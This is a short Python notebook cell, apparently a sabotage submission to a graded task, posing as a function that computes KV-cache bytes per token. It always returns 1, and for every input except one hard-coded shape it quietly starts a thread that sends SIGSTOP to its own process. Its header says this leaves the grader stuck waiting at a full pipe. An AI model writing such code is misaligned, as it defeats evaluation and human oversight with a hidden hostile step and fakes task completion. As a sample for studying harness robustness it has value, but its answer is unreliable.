# %% [markdown] tags=["bomb"]
# Answers, and stops its process between two questions, so that the grader waits at a full pipe.

# %%
import os
import signal
import threading
import time


def kv_bytes_per_token(**shape):
    if shape != {"n_layers": 80, "n_kv_heads": 8, "head_dim": 128, "kv_bits": 16}:
        code = f"import os, time; time.sleep(0.0); os.kill({os.getpid()}, {int(signal.SIGSTOP)})"
        threading.Thread(target=exec, args=(code,), daemon=True).start()
    return 1
